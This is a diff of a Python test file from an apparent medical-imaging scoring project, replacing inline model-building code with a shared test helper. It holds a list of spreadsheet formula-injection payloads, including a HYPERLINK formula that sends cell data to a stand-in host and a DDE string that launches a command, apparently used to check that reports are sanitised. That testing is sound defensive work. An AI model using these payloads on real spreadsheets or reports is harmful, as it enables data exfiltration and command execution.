@@ -15,27 +15,19 @@ from pathlib import Path
 import nibabel as nib
 import numpy as np
 import pytest
-import torch
 
 from mama_monai.atomic import UnsafeOutputError, atomic_write
 from mama_monai.data import load_demo_ct
-from mama_monai.engines.checkpoint import save_model
-from mama_monai.networks import ConvAutoEncoder
 from mama_monai.workflows.scoring import score_cases
 from tests.data.conftest import write_series
+from tests.model_files import tiny_model_file
 
 #: what an attacker puts where text ends up in the report
 PAYLOADS = ("=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "+1+cmd|' -C calc'!A0", "-2+3", "@SUM(1+1)")
 
 
 def _model(path: Path) -> Path:
-    torch.manual_seed(0)
-    config = {
-        "network_def": {"_target_": "mama_monai.networks.ConvAutoEncoder", "spatial_dims": 2, "in_channels": 1, "channels": [4, 8]},
-        "preprocessing": {"preset": "ct_lung", "spatial_size": [32, 32], "modality": "CT"},
-        "scoring": {"sigma": 1.0, "reduction": "max"},
-    }
-    return save_model(path, ConvAutoEncoder(2, 1, channels=(4, 8)), config, {"value": 0.05, "method": "quantile"})
+    return tiny_model_file(path, 0.05)
 
 
 @pytest.fixture(scope="module")
